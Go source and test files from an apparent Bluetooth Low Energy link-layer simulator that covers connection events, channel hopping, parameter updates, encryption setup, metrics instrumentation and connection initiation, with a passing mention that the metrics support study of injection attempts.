	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) {
			if !e.Missed {
				seen[e.Channel] = true
			}
		}
	}
	rg.connect(t)
	rg.sched.RunFor(2 * sim.Second)
	if len(seen) < 30 {
		t.Fatalf("visited only %d channels — hopping broken", len(seen))
	}
}

func TestAnchorSpacingMatchesInterval(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 36})
	var anchors []sim.Time
	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) {
			if !e.Missed {
				anchors = append(anchors, e.Anchor)
			}
		}
	}
	rg.connect(t)
	if len(anchors) < 5 {
		t.Fatal("too few anchors")
	}
	want := 36 * ble.ConnUnit // 45 ms
	for i := 1; i < len(anchors); i++ {
		gap := anchors[i].Sub(anchors[i-1])
		// Consecutive anchors: within widening tolerance (< ±100 µs here).
		if gap < want-100*sim.Microsecond || gap > want+100*sim.Microsecond {
			t.Fatalf("anchor gap %v, want ≈%v", gap, want)
		}
	}
}

func TestDataTransferBothDirections(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)

	var atSlave, atMaster [][]byte
	rg.slave.OnData = func(p pdu.DataPDU) { atSlave = append(atSlave, p.Payload) }
	rg.master.OnData = func(p pdu.DataPDU) { atMaster = append(atMaster, p.Payload) }

	rg.master.Send(pdu.LLIDStart, []byte{0xAA, 0x01})
	rg.slave.Send(pdu.LLIDStart, []byte{0xBB, 0x02})
	rg.sched.RunFor(sim.Second)

	if len(atSlave) != 1 || atSlave[0][0] != 0xAA {
		t.Fatalf("slave received %v", atSlave)
	}
	if len(atMaster) != 1 || atMaster[0][0] != 0xBB {
		t.Fatalf("master received %v", atMaster)
	}
}

func TestDataSequenceNoDuplicatesNoLoss(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	var got []byte
	rg.slave.OnData = func(p pdu.DataPDU) { got = append(got, p.Payload[0]) }
	const n = 20
	for i := 0; i < n; i++ {
		rg.master.Send(pdu.LLIDStart, []byte{byte(i)})
	}
	rg.sched.RunFor(2 * sim.Second)
	if len(got) != n {
		t.Fatalf("received %d PDUs, want %d", len(got), n)
	}
	for i, b := range got {
		if b != byte(i) {
			t.Fatalf("out of order at %d: %v", i, got)
		}
	}
}

func TestTerminateFromMaster(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	var slaveReason, masterReason *DisconnectReason
	rg.slave.OnDisconnect = func(r DisconnectReason) { slaveReason = &r }
	rg.master.OnDisconnect = func(r DisconnectReason) { masterReason = &r }
	rg.master.Terminate()
	rg.sched.RunFor(sim.Second)
	if slaveReason == nil || slaveReason.Code != pdu.ErrCodeRemoteUserTerminated {
		t.Fatalf("slave reason = %v", slaveReason)
	}
	if masterReason == nil {
		t.Fatal("master did not close")
	}
	if !rg.master.Closed() || !rg.slave.Closed() {
		t.Fatal("connections not closed")
	}
}

func TestTerminateFromSlave(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	var masterReason *DisconnectReason
	rg.master.OnDisconnect = func(r DisconnectReason) { masterReason = &r }
	rg.slave.Terminate()
	rg.sched.RunFor(sim.Second)
	if masterReason == nil {
		t.Fatal("master did not see termination")
	}
}

func TestSupervisionTimeoutWhenPeerVanishes(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12, Timeout: 50}) // 500 ms
	rg.connect(t)
	var slaveReason *DisconnectReason
	rg.slave.OnDisconnect = func(r DisconnectReason) { slaveReason = &r }
	// The master's radio is moved out of range: the slave must time out.
	rg.cenStack.Radio.SetPosition(phy.Position{X: 1e6})
	rg.sched.RunFor(3 * sim.Second)
	if slaveReason == nil {
		t.Fatal("slave never timed out")
	}
	if slaveReason.Code != pdu.ErrCodeConnectionTimeout {
		t.Fatalf("reason = %v", *slaveReason)
	}
}

func TestConnectionUpdateProcedure(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	var anchors []sim.Time
	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) {
			if !e.Missed {
				anchors = append(anchors, e.Anchor)
			}
		}
	}
	rg.connect(t)
	if err := rg.master.RequestConnectionUpdate(2, 3, 48, 0, 200); err != nil {
		t.Fatal(err)
	}
	rg.sched.RunFor(4 * sim.Second)
	if rg.slave.Closed() || rg.master.Closed() {
		t.Fatal("connection died across update")
	}
	if got := rg.slave.Params().Interval; got != 48 {
		t.Fatalf("slave interval = %d, want 48", got)
	}
	if got := rg.master.Params().Interval; got != 48 {
		t.Fatalf("master interval = %d, want 48", got)
	}
	// The anchor spacing must have switched from 15 ms to 60 ms.
	last := anchors[len(anchors)-1].Sub(anchors[len(anchors)-2])
	if want := 48 * ble.ConnUnit; last < want-sim.Millisecond || last > want+sim.Millisecond {
		t.Fatalf("post-update anchor gap %v, want ≈%v", last, want)
	}
	// Data still flows after the update.
	gotData := false
	rg.slave.OnData = func(pdu.DataPDU) { gotData = true }
	rg.master.Send(pdu.LLIDStart, []byte{1})
	rg.sched.RunFor(sim.Second)
	if !gotData {
		t.Fatal("data lost after connection update")
	}
}

func TestChannelMapUpdateProcedure(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	seenAfter := map[uint8]bool{}
	applied := false
	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) {
			if applied && !e.Missed {
				seenAfter[e.Channel] = true
			}
		}
	}
	rg.connect(t)
	newMap := ble.AllChannels.Without(0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11)
	if err := rg.master.RequestChannelMapUpdate(newMap); err != nil {
		t.Fatal(err)
	}
	rg.sched.RunFor(500 * sim.Millisecond)
	applied = true
	rg.sched.RunFor(3 * sim.Second)
	if rg.slave.Closed() {
		t.Fatal("connection died across channel map update")
	}
	if len(seenAfter) == 0 {
		t.Fatal("no events after update")
	}
	for ch := range seenAfter {
		if !newMap.Used(ch) {
			t.Fatalf("blacklisted channel %d still used", ch)
		}
	}
}

func TestEncryptionStartAndTraffic(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)

	ltk := [16]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}
	rg.slave.OnLTKRequest = func(rand [8]byte, ediv uint16) ([16]byte, bool) {
		if ediv != 0x1234 {
			t.Errorf("EDIV = %04x", ediv)
		}
		return ltk, true
	}
	encM, encS := false, false
	rg.master.OnEncryptionChange = func(on bool) { encM = on }
	rg.slave.OnEncryptionChange = func(on bool) { encS = on }

	if err := rg.master.StartEncryption(ltk, [8]byte{9}, 0x1234); err != nil {
		t.Fatal(err)
	}
	rg.sched.RunFor(2 * sim.Second)
	if !encM || !encS {
		t.Fatalf("encryption not established: master=%t slave=%t", encM, encS)
	}
	if !rg.master.Encrypted() || !rg.slave.Encrypted() {
		t.Fatal("Encrypted() false")
	}

	// Traffic still flows, and is ciphertext on the air.
	var sawPlaintext bool
	rg.med.AddObserver(obsFunc(func(o medium.TxObservation) {
		if len(o.Frame.PDU) > 2+4 && o.Frame.PDU[0]&0x3 != 0 {
			// Any data PDU payload must not contain our magic plaintext.
			for i := 2; i+4 <= len(o.Frame.PDU); i++ {
				if o.Frame.PDU[i] == 0xCA && o.Frame.PDU[i+1] == 0xFE &&
					o.Frame.PDU[i+2] == 0xBA && o.Frame.PDU[i+3] == 0xBE {
					sawPlaintext = true
				}
			}
		}
	}))
	var got []byte
	rg.slave.OnData = func(p pdu.DataPDU) { got = p.Payload }
	rg.master.Send(pdu.LLIDStart, []byte{0xCA, 0xFE, 0xBA, 0xBE})
	rg.sched.RunFor(sim.Second)
	if string(got) != string([]byte{0xCA, 0xFE, 0xBA, 0xBE}) {
		t.Fatalf("decrypted payload = % x", got)
	}
	if sawPlaintext {
		t.Fatal("plaintext visible on air while encrypted")
	}
}

func TestEncryptionRejectedWithoutLTK(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	rg.slave.OnLTKRequest = func([8]byte, uint16) ([16]byte, bool) {
		return [16]byte{}, false
	}
	var rejected bool
	rg.master.OnControl = func(c pdu.Control) {
		if _, ok := c.(pdu.RejectInd); ok {
			rejected = true
		}
	}
	if err := rg.master.StartEncryption([16]byte{1}, [8]byte{}, 0); err != nil {
		t.Fatal(err)
	}
	rg.sched.RunFor(sim.Second)
	if !rejected {
		t.Fatal("no LL_REJECT_IND for missing key")
	}
	if rg.master.Encrypted() || rg.slave.Encrypted() {
		t.Fatal("encryption established without key")
	}
}

func TestSlaveLatencySkipsEvents(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12, Latency: 4})
	var observed []EventInfo
	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) { observed = append(observed, e) }
	}
	rg.connect(t)
	rg.sched.RunFor(2 * sim.Second)
	if rg.slave.Closed() {
		t.Fatal("latency killed the connection")
	}
	// With latency 4, the slave listens roughly every 5th event: counters
	// of consecutive observations should jump by about 5.
	jumps := 0
	for i := 1; i < len(observed); i++ {
		if d := observed[i].Counter - observed[i-1].Counter; d >= 4 {
			jumps++
		}
	}
	if jumps < len(observed)/2 {
		t.Fatalf("slave latency not skipping: %d jumps in %d events", jumps, len(observed))
	}
}

func TestFeatureAndVersionExchange(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	var gotFeature, gotVersion bool
	rg.master.OnControl = func(c pdu.Control) {
		switch c.(type) {
		case pdu.FeatureRsp:
			gotFeature = true
		case pdu.VersionInd:
			gotVersion = true
		}
	}
	rg.master.SendControl(pdu.FeatureReq{FeatureSet: 1})
	rg.master.SendControl(pdu.VersionInd{VersNr: 9})
	rg.sched.RunFor(sim.Second)
	if !gotFeature || !gotVersion {
		t.Fatalf("feature=%t version=%t", gotFeature, gotVersion)
	}
}

func TestUnknownControlOpcodeAnswered(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	var unknown *pdu.UnknownRsp
	rg.master.OnControl = func(c pdu.Control) {
		if u, ok := c.(pdu.UnknownRsp); ok {
			unknown = &u
		}
	}
	// Queue a raw control PDU with a bogus opcode on the master side.
	rg.master.txQueue = append(rg.master.txQueue, pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
		Payload: []byte{0x55},
	})
	rg.sched.RunFor(sim.Second)
	if unknown == nil || unknown.UnknownType != 0x55 {
		t.Fatalf("UnknownRsp = %+v", unknown)
	}
}

func TestWindowWideningFormula(t *testing.T) {
	// Eq. 5 at interval 36 (45 ms), 50+20 ppm: 70e-6 × 45 ms = 3.15 µs,
	// + 32 µs = 35.15 µs.
	w := WindowWidening(50, 20, 36*ble.ConnUnit)
	want := sim.Duration(35150) * sim.Nanosecond
	if w != want {
		t.Fatalf("widening = %v, want %v", w, want)
	}
	// Widening grows with the span (missed events / latency).
	if WindowWidening(50, 20, 2*36*ble.ConnUnit) <= w {
		t.Fatal("widening not increasing with span")
	}
}

func TestTransmitWindowFormula(t *testing.T) {
	// Eq. 1: t_start = t_init + 1.25 ms + WinOffset×1.25 ms.
	w := NewTransmitWindow(sim.Time(0), 3, 2)
	if w.Start != sim.Time(4*ble.ConnUnit) {
		t.Fatalf("window start = %v", w.Start)
	}
	if w.End() != w.Start.Add(2*ble.ConnUnit) {
		t.Fatalf("window end = %v", w.End())
	}
}

func TestFromConnectReq(t *testing.T) {
	req := pdu.ConnectReq{
		AccessAddress: 0x71764129, CRCInit: 0xABCDEF, WinSize: 2, WinOffset: 1,
		Interval: 36, Latency: 3, Timeout: 100, ChannelMap: ble.AllChannels,
		Hop: 9, SCA: ble.SCA21to30ppm,
	}
	p := FromConnectReq(req)
	if p.AccessAddress != req.AccessAddress || p.Interval != 36 || p.Hop != 9 ||
		p.MasterSCA != ble.SCA21to30ppm || p.Latency != 3 {
		t.Fatalf("FromConnectReq = %+v", p)
	}
	if p.IntervalDuration() != 45*sim.Millisecond {
		t.Fatalf("IntervalDuration = %v", p.IntervalDuration())
	}
	if p.SupervisionTimeout() != sim.Second {
		t.Fatalf("SupervisionTimeout = %v", p.SupervisionTimeout())
	}
}

func TestScanReqScanRsp(t *testing.T) {
	sched := sim.NewScheduler()
	rng := sim.NewRNG(7)
	med := medium.New(sched, rng, medium.Config{})
	per := newStack(t, sched, med, rng, "peripheral", phy.Position{X: 0}, 10)
	cen := newStack(t, sched, med, rng, "central", phy.Position{X: 2}, -10)

	adv := NewAdvertiser(per, AdvertiserConfig{ScanData: []byte{0x04, 0x09, 'b', 'l', 'b'}})
	adv.Start()

	// Hand-rolled active scanner: listen, send SCAN_REQ, expect SCAN_RSP.
	var rsp *pdu.ScanRsp
	cen.Radio.SetChannel(phy.AdvChannel37)
	cen.Radio.SetAccessAddress(uint32(ble.AdvertisingAccessAddress))
	cen.Radio.OnFrame = func(rx medium.Received) {
		p, err := pdu.UnmarshalAdvPDU(rx.Frame.PDU)
		if err != nil {
			cen.Radio.StartListening()
			return
		}
		switch p.Type {
		case pdu.AdvIndType:
			req := pdu.ScanReq{ScanAddr: cen.Address, AdvAddr: per.Address}
			sched.At(rx.EndAt.Add(ble.TIFS), "scan-req", func() {
				cen.Radio.OnTxDone = func() { cen.Radio.StartListening() }
				cen.Radio.Transmit(advFrame(req.Marshal()))
			})
		case pdu.ScanRspType:
			if r, err := pdu.UnmarshalScanRsp(p.Payload); err == nil {
				rsp = &r
			}
		}
	}
	cen.Radio.StartListening()
	sched.RunFor(sim.Second)
	if rsp == nil {
		t.Fatal("no SCAN_RSP")
	}
	if string(rsp.ScanData[2:]) != "blb" {
		t.Fatalf("scan data = % x", rsp.ScanData)
	}
}

type obsFunc func(medium.TxObservation)

func (f obsFunc) ObserveTx(o medium.TxObservation) { f(o) }
