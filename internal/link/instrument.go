package link

import (
	"injectable/internal/obs"
	"injectable/internal/sim"
)

// connInstruments holds one connection's pre-registered metric handles
// and forwards window/anchor events to the forensics ledger. Handles
// are shared across connections through the registry's get-or-create
// semantics, so counters aggregate per run. A nil *connInstruments
// (observability off) is a no-op.
type connInstruments struct {
	hub  *obs.Hub
	name string

	events   *obs.Counter
	missed   *obs.Counter
	anchors  *obs.Counter
	crcFails *obs.Counter
	retrans  *obs.Counter
	winOpens *obs.Counter

	winWidth       *obs.Histogram
	widening       *obs.Histogram
	anchorResidual *obs.Histogram
}

func newConnInstruments(stack *Stack) *connInstruments {
	if stack.Obs == nil {
		return nil
	}
	r := stack.Obs.Reg()
	return &connInstruments{
		hub:      stack.Obs,
		name:     stack.Name,
		events:   r.Counter("link.event.count"),
		missed:   r.Counter("link.event.missed"),
		anchors:  r.Counter("link.anchor.count"),
		crcFails: r.Counter("link.rx.crc_fail"),
		retrans:  r.Counter("link.tx.retransmissions"),
		winOpens: r.Counter("link.win.open"),
		winWidth: r.Histogram("link.win.width_us", obs.LinearBuckets(16, 16, 40)),
		widening: r.Histogram("link.win.widening_us", obs.LinearBuckets(8, 8, 40)),
		// Anchor drift: signed residual between the predicted and the
		// observed anchor — the clock-inaccuracy signal eq. 4 widens for.
		anchorResidual: r.Histogram("link.anchor.residual_us", obs.LinearBuckets(-20, 2, 21)),
	}
}

// onWidening records the eq. 4 widening computed for an upcoming window.
func (ins *connInstruments) onWidening(w sim.Duration) {
	if ins == nil {
		return
	}
	ins.widening.Observe(durUS(w))
}

// onWindowOpen records a receive window opening (and buffers it for
// ledger correlation with a later injection attempt).
func (ins *connInstruments) onWindowOpen(c *Conn, ch uint8, width sim.Duration) {
	if ins == nil {
		return
	}
	ins.winOpens.Inc()
	ins.winWidth.Observe(durUS(width))
	ins.hub.Led().LinkWindowOpen(ins.name, c.eventCount, ch, c.stack.Sched.Now(), width)
}

// onAnchor records an adopted anchor point. Must be called before the
// connection state mutates, so the residual against the prediction from
// the previous anchor (eq. 2/3) can be computed.
func (ins *connInstruments) onAnchor(c *Conn, anchor sim.Time) {
	if ins == nil {
		return
	}
	ins.anchors.Inc()
	if c.anchorKnown {
		span := sim.Duration(c.missedEvents+1) * c.params.IntervalDuration()
		predicted := c.lastAnchor.Add(span)
		ins.anchorResidual.Observe(durUS(anchor.Sub(predicted)))
	}
	ins.hub.Led().LinkAnchor(ins.name, c.eventCount, anchor)
}

// onEvent records one connection event.
func (ins *connInstruments) onEvent(missed bool) {
	if ins == nil {
		return
	}
	ins.events.Inc()
	if missed {
		ins.missed.Inc()
	}
}

// onCRCFail records a CRC-invalid frame inside the receive window.
func (ins *connInstruments) onCRCFail() {
	if ins == nil {
		return
	}
	ins.crcFails.Inc()
}

// onRetransmission records an SN-repeated retransmission.
func (ins *connInstruments) onRetransmission() {
	if ins == nil {
		return
	}
	ins.retrans.Inc()
}

// durUS converts a duration to float microseconds.
func durUS(d sim.Duration) float64 { return float64(d) / float64(sim.Microsecond) }
