package link

import (
	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// InitiatorConfig configures connection initiation.
type InitiatorConfig struct {
	// Target is the peripheral to connect to; a zero Address connects to
	// the first connectable advertiser heard.
	Target ble.Address
	// Params are the connection parameters to propose. AccessAddress and
	// CRCInit are drawn randomly when zero.
	Params ConnParams
	// ScanWindowPerChannel is how long to dwell on each advertising
	// channel. Zero means 60 ms.
	ScanWindowPerChannel sim.Duration
}

// Initiator scans the advertising channels and establishes a connection to
// a target peripheral, becoming the master.
type Initiator struct {
	stack *Stack
	cfg   InitiatorConfig

	running bool
	chanIdx int
	pending []sim.EventRef

	// OnConnect fires with the established master connection.
	OnConnect func(c *Conn)
	// OnAdvertisement observes every connectable advertisement heard.
	OnAdvertisement func(adv pdu.AdvInd, rssi phy.DBm)
}

// NewInitiator builds an initiator on the stack.
func NewInitiator(stack *Stack, cfg InitiatorConfig) *Initiator {
	if cfg.ScanWindowPerChannel == 0 {
		cfg.ScanWindowPerChannel = 60 * sim.Millisecond
	}
	if cfg.Params.AccessAddress == 0 {
		cfg.Params.AccessAddress = ble.NewAccessAddress(stack.RNG)
	}
	if cfg.Params.CRCInit == 0 {
		cfg.Params.CRCInit = stack.RNG.Uint32() & 0xFFFFFF
	}
	applyConnParamDefaults(&cfg.Params)
	return &Initiator{stack: stack, cfg: cfg}
}

// applyConnParamDefaults fills zero fields with sane values.
func applyConnParamDefaults(p *ConnParams) {
	if p.Interval == 0 {
		p.Interval = 36 // 45 ms, a typical phone default (paper §VII-C)
	}
	if p.WinSize == 0 {
		p.WinSize = 2
	}
	if p.Timeout == 0 {
		p.Timeout = 100 // 1 s
	}
	if p.ChannelMap == 0 {
		p.ChannelMap = ble.AllChannels
	}
	if p.Hop == 0 {
		p.Hop = 7
	}
}

// Start begins scanning for the target.
func (i *Initiator) Start() {
	if i.running {
		return
	}
	i.running = true
	i.stack.Radio.SetAccessAddress(uint32(ble.AdvertisingAccessAddress))
	i.stack.Radio.OnFrame = i.onFrame
	i.chanIdx = 0
	i.listenNext()
}

// Stop aborts initiation.
func (i *Initiator) Stop() {
	i.running = false
	for _, ev := range i.pending {
		i.stack.Sched.Cancel(ev)
	}
	i.pending = i.pending[:0]
	i.stack.Radio.OnFrame = nil
	i.stack.Radio.OnTxDone = nil
	i.stack.Radio.StopListening()
}

// listenNext dwells on the next advertising channel.
func (i *Initiator) listenNext() {
	if !i.running {
		return
	}
	ch := phy.AdvChannels()[i.chanIdx%3]
	i.chanIdx++
	i.stack.Radio.SetChannel(ch)
	i.stack.Radio.StartListening()
	var hop func(d sim.Duration)
	hop = func(d sim.Duration) {
		ev := i.stack.Sched.After(d, i.stack.Name+":scan-hop", func() {
			if !i.running {
				return
			}
			if i.stack.Radio.Locked() || i.stack.Radio.Acquiring() {
				// A frame is mid-air at the window boundary: let it
				// finish, then check again. In a busy cell the timer must
				// re-arm — abandoning it would park the scan on this
				// channel for good.
				hop(sim.Millisecond)
				return
			}
			i.stack.Radio.StopListening()
			i.listenNext()
		})
		i.pending = append(i.pending, ev)
	}
	hop(i.cfg.ScanWindowPerChannel)
}

// onFrame reacts to advertisements: send CONNECT_REQ after T_IFS.
func (i *Initiator) onFrame(rx medium.Received) {
	if !i.running {
		return
	}
	if !crc.Check(ble.AdvertisingCRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		i.resumeListening()
		return
	}
	p, err := pdu.UnmarshalAdvPDU(rx.Frame.PDU)
	if err != nil || p.Type != pdu.AdvIndType {
		i.resumeListening()
		return
	}
	adv, err := pdu.UnmarshalAdvInd(p.Payload)
	if err != nil {
		i.resumeListening()
		return
	}
	adv.ChSel = p.ChSel
	if i.OnAdvertisement != nil {
		i.OnAdvertisement(adv, rx.RSSI)
	}
	var zero ble.Address
	if i.cfg.Target != zero && adv.AdvAddr != i.cfg.Target {
		i.resumeListening()
		return
	}

	useCSA2 := i.cfg.Params.CSA2 && adv.ChSel
	req := pdu.ConnectReq{
		ChSel:         useCSA2,
		InitAddr:      i.stack.Address,
		AdvAddr:       adv.AdvAddr,
		AccessAddress: i.cfg.Params.AccessAddress,
		CRCInit:       i.cfg.Params.CRCInit,
		WinSize:       i.cfg.Params.WinSize,
		WinOffset:     i.cfg.Params.WinOffset,
		Interval:      i.cfg.Params.Interval,
		Latency:       i.cfg.Params.Latency,
		Timeout:       i.cfg.Params.Timeout,
		ChannelMap:    i.cfg.Params.ChannelMap,
		Hop:           i.cfg.Params.Hop,
		SCA:           ble.SCAFromPPM(i.stack.Clock.RatedPPM()),
	}
	i.cfg.Params.MasterSCA = req.SCA
	i.cfg.Params.CSA2 = useCSA2
	frame := advFrame(req.Marshal())
	i.stack.Clock.AtLocalOffset(rx.EndAt, ble.TIFS, i.stack.Name+":connect-req", func() {
		if !i.running {
			return
		}
		i.stack.Radio.OnTxDone = func() {
			i.stack.Radio.OnTxDone = nil
			connReqEnd := i.stack.Sched.Now()
			i.Stop()
			i.stack.trace("connect-req-sent", func() []sim.Field {
				return []sim.Field{sim.F("to", adv.AdvAddr.String())}
			})
			conn, err := NewMasterConn(i.stack, i.cfg.Params, adv.AdvAddr, connReqEnd)
			if err != nil {
				i.stack.trace("conn-failed", func() []sim.Field {
					return []sim.Field{sim.F("err", err.Error())}
				})
				return
			}
			if i.OnConnect != nil {
				i.OnConnect(conn)
			}
		}
		i.stack.Radio.Transmit(frame)
	})
}

// resumeListening re-opens the receiver after a frame that did not lead to
// a connection.
func (i *Initiator) resumeListening() {
	if i.running {
		i.stack.Radio.StartListening()
	}
}
